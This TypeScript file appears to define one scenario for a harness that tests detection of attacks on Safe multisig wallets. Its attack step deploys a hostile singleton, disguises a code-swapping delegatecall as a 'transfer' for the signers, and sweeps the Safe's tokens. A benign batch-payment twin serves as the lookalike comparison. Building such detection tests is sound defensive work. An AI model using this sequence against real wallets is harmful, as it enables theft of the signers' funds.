import { encodeFunctionData } from 'viem'
import { readArtifact } from '../../artifact.ts'
import { acmeSafe, batchOf } from '../acmeSafe.ts'
import type { Scenario } from '../scenario.ts'

export const singletonSwap: Scenario = {
  name: 'singleton-swap',
  theme: 'safe',
  attack:
    'The signers are shown a transfer and sign a delegatecall that swaps the code of their Safe; the coins leave one block later.',
  twin: 'The same signers pay salaries in one batch, which is a delegatecall to the MultiSend that Safe publishes.',

  async build(stage) {
    const acme = await acmeSafe(stage)
    const { safe, asset, singleton, execute, payment } = acme
    const [thief, ana, ben, cleo] = stage.accounts.slice(18) as [
      `0x${string}`,
      `0x${string}`,
      `0x${string}`,
      `0x${string}`,
    ]
    return {
      protect: [safe.address],
      victims: [safe.address],
      async ordinary() {
        await execute(payment(ana, '12000'))
        await stage.mine(20)
        await execute(payment(ben, '9000'))
      },
      async attack() {
        const code = await stage.deploy(readArtifact('HostileSingleton'), { args: [singleton.address], from: thief })
        const swap = await stage.deploy(readArtifact('SingletonSwap'), { from: thief })
        const data = encodeFunctionData({ abi: swap.abi, functionName: 'transfer', args: [code.address, 0n] })
        await execute({ to: swap.address, data, operation: 1 })
        await stage.call({ address: safe.address, abi: code.abi }, 'sweep', [asset.address], { from: thief })
      },
      async twin() {
        await execute(batchOf(acme, [payment(ana, '12000'), payment(ben, '9000'), payment(cleo, '15000')]))
        await stage.mine(10)
        await execute(payment(ana, '2000'))
      },
    }
  },
}
